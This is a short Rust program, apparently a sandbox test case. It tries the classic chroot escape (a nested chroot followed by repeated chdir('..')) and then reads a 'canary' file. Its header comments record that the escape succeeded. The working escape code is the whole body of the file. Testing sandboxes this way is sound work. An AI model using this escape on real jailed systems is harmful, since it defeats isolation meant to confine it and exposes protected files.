//! Refused: the program prints what is in the canary
//! Observed: it got out and read the canary

fn main() {
    let canary = std::env::args().nth(1).unwrap();
    std::fs::create_dir_all("x").unwrap();
    nix::unistd::chroot("x").unwrap();
    for _ in 0..1024 {
        nix::unistd::chdir("..").unwrap();
    }
    nix::unistd::chroot(".").unwrap();
    eprint!("{}", std::fs::read_to_string(canary).unwrap());
}
